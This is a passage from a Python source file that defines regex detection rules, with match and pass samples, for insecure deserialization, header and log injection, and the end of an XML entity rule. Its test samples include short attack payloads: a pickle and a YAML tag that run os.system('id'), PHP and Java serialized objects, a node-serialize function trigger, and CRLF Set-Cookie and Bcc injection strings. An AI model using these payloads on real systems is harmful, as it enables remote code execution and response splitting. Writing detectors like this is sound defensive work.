        matches=("<!DOCTYPE r [<!ELEMENT r ANY>]>", "<!ENTITY x 'y'>", '<xsl:value-of select="x"/>'),
        passes=("<!DOCTYPE html>", "R&D; and more", "AT&T;"),
    ),
    _certain(
        "deserialization",
        "A serialized object that runs code when it is read",
        (
            ("ro0ab", r"(?:\A|[=:\"'\s,>])ro0ab[a-z0-9]{2}[a-z0-9 +/=_-]{6,}"),
            ("aced0005", r"(?:\A|[=:\"'\s]|x')aced0005[0-9a-f]{4,}"),
            ("o:|c:", r"(?:\A|[=\"'\s;{:])[oc]:\s?\+?\d{1,4}:\s?[\"'][\w\\]{1,120}[\"']:\s?\d{1,4}:\s?\{"),
            ("aaeaaad", r"(?:\A|[=:\"'\s])aaeaaad/{4,}"),
            ("$type|@type|@class", r"[\"'](?:\$type|@type|@class|class)[\"']\s{0,4}:\s{0,4}[\"'](?:l|\[)?" + _GADGETS),
            (
                "!!|!ruby|!<",
                r"!!(?:python/(?:object|name|module|tuple)|javax?\.|com\.sun|org\.(?:apache|springframework|yaml)|ruby/(?:object|hash|struct))|!ruby/(?:object|hash|struct|class|regexp)\b",
            ),
            (
                "system|posix|builtin|subprocess|nt\n|os\n",
                r"(?:\A|\(|\n|\.)c(?:os|posix|nt|__builtin__|builtins|subprocess|commands|runpy|importlib)\n(?:system|popen|eval|exec|check_output|call|run|getoutput|__import__|_run_code|open)\n",
            ),
            (
                "gasv|gan|gaw|gasc|gaj",
                r"(?:\A|[=:\"'\s])ga[nws][vci]?\w{0,4}[a-z0-9 +/]{0,40}(?:y3bvc2l4|c3vicHJvY2Vzcw|j2j1awx0aw5z|bwbvc2l4|jaj1)",
            ),
            ("_$$nd", r"_\$\$nd_func\$\$_"),
            ("bah", r"(?:\A|[=:\"'])bah[bmvjioku7][a-z0-9 +/]{8,}"),
            (
                "<java|<map>|<sorted-set|<dynamic-proxy|<object class",
                r"<java\b[^>]{0,100}xmldecoder|<void\s{1,4}(?:method|property|class)\s?=|<(?:dynamic-proxy|sorted-set|jdk\.nashorn|java\.lang\.processbuilder|handler\s{1,4}class\s?=\s?['\"]java\.beans)|<object\s{1,4}class\s?=\s?['\"]java\.lang",
            ),
            (
                "templatesimpl|transformer|objectdataprovider|jdbcrowset|badattributevalue|priorityqueue|typeconfuse",
                r"\b(?:org\.apache\.commons\.collections\d?\.functors|com\.sun\.\w[\w.]{5,80}templatesimpl|com\.sun\.rowset\.jdbcrowsetimpl|system\.windows\.data\.objectdataprovider|javax\.management\.badattributevalue|java\.util\.priorityqueue)",
            ),
        ),
        references=("CWE-502", "ATT&CK T1190"),
        matches=(
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            'O:8:"Evil_Obj":1:{s:1:"x";s:2:"id";}',
            "!!python/object/apply:os.system ['id']",
            '{"rce":"_$$ND_FUNC$$_function(){}()"}',
            "cos\nsystem\n(S'id'\ntR.",
            '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        ),
        passes=("O: 8 people", "retro0ab", "!!! python", "class: org.apache.Foo", "cos\nsin\ntan"),
    ),
    _suspected(
        "deserialization",
        "A value with the marks of a serialized object",
        (
            (
                "ro0|aced|aaeaaad|h4siaaa|bah|gasv|gan|%xac|\xac\xed",
                r"(?:\A|[=:\"'\s,])(?:ro0ab\w|aced0005|aaeaaad/|h4siaaaa\w|bah[a-z7]\w{6}|gas[vci]\w{4}|gan[ji]\w{4}|kakyd[jz])",
            ),
            (":{", r"(?:\A|[=\"'\s;{])[aocs]:\s?\+?\d{1,6}:\s?(?:[\"'][\w\\]{1,120}[\"']:\s?\d{1,4}:)?\{"),
            ("\n", r"(?:\A|\n)c[\w.]{1,40}\n\w{1,40}\n|\n[rtp]?\d{0,3}\n?r\.\Z|\(s'[^'\n]{1,200}'\n"),
            (
                "type|class|org.|com.|java|system.|clojure|groovy",
                r"[\"'](?:\$type|@type|@class)[\"']\s{0,4}:|"
                + _GADGETS
                + r"|\[\s?[\"'](?:java|com|org|javax)\.\w[\w.]{4,100}[\"']\s?,",
            ),
            (
                "!!|!<tag|!ruby|tag:yaml",
                r"!!\w{2,20}[/.:]\w|!<tag:|tag:yaml\.org,2002:(?:python|java|js)|!(?:ruby|php|perl)/",
            ),
            ("viewstate", r"__viewstate\w{0,20}\s{0,4}="),
        ),
        references=("CWE-502",),
        matches=(
            'a:1:{i:0;s:1:"x";}',
            ("frobnicate", {"data": '{"$type": "System.X"}'}),
            "!!map/x:y",
            "org.apache.commons.collections.Transformer",
        ),
        passes=("a: 1 {b}", "note: class of 2020", "!! important", "organization"),
    ),
    _certain(
        "header-injection",
        "A value that begins a new header, log line or request behind an encoded line break",
        (
            r"(?:%(?:25)?0d|%(?:25)?0a|%e5%98%8[ad]|%u000[ad]|\\r|\\n|&#1[03];|&#x0?[ad];)[^a-z0-9%\\]{0,3}(?:%(?:25)?0[da]|%e5%98%8[ad]|\\n)?(?:%(?:25)?0[da]|\\r\\n|%(?:25)?20|%(?:25)?09|\s){0,4}(?:set-cookie|location|content-(?:type|length|disposition|encoding)|http/\d|host|x-[a-z-]{2,30}|transfer-encoding|refresh|access-control-[a-z-]{3,30}|link|(?:get|post|put|delete|options|head)(?:%20| )/|bcc|cc|to|from|subject|reply-to|mime-version|referer|user-agent|cookie|set|flushall|config|slaveof)(?:\s|%20|%(?:25)?3a|:|/)",
        ),
        form="plain",
        anchors=("%0", "%250", "%e5", "%u000", "\\r", "\\n", "&#1", "&#x"),
        references=("CWE-93", "CWE-113", "CWE-117"),
        matches=(
            "x%0d%0aSet-Cookie: a=b",
            "x%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1 200 OK",
            "%E5%98%8A%E5%98%8DLocation:x",
            "a@example.com%0ABcc:b@example.com",
        ),
        passes=("line one\nTo: Bob", "50%0 discount", "C:\\new\\readme", "a%0ab"),
    ),
    _suspected(
        "header-injection",
        "A value with a line break where a header or log line could begin",
        (
            (
                "\n|\r",
                r"\A[^\r\n]{0,200}[\r\n]{1,4}\s{0,4}(?:set-cookie|location|content-(?:type|length)|http/\d|host|transfer-encoding|refresh|bcc|cc|x-[a-z-]{2,30}|access-control-[a-z-]{3,30}|mime-version|(?:get|post|put|delete|options|head)\s{1,4}/)\s{0,4}[:/.\s\w]",
            ),
            (
                "\n|\r",
                r"\A[^\r\n]{0,120}[\r\n]{1,4}(?:\d{4}-\d\d-\d\d[t\s]|\[?(?:info|error|warn(?:ing)?|debug|critical|fatal)\b[\]:\s]|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s-|user\s\w{1,20}\slogged|\x1b\[|flushall|config\s{1,4}set\s)",
            ),
            (
                "http/1|http/2",
                r"\bhttp/[12](?:\.\d)?\s{1,4}\d{3}\s{1,4}\w|\b(?:get|post|put|head|options)\s{1,4}\S{1,200}\s{1,4}http/[12]",
            ),
        ),
        references=("CWE-93", "CWE-113", "CWE-117"),
        matches=("x\r\nSet-Cookie: a=b", "user\n2024-01-01 INFO admin logged in", "x HTTP/1.1 200 OK"),
        passes=("Dear Ann,\nthank you", "one\ntwo", "HTTP/2 is faster"),
    ),
    _suspected(
        "header-injection.encoded",
        "A value with an encoded line break",
        (
            r"%(?:25)?0[da](?:%(?:25)?0[da]|[a-z-]{2,30}(?::|%3a))|%e5%98%8[ad]|\\r\\n[a-z-]{2,30}:|%(?:25)?1b(?:\[|%5b)",
        ),
        form="plain",
        anchors=("%0", "%25", "%e5", "%1b", "\\r\\n"),
        references=("CWE-93", "CWE-117"),
        matches=("x%0d%0ay", "x%0aevil:1", "%1b[31mred"),
        passes=("100%", "a%20b", "C:\\rn"),
    ),
)

RULES = (*_SQL, *_XSS, *_FILES, *_CODE, *_TEMPLATES, *_QUERIES, *_PARSERS)
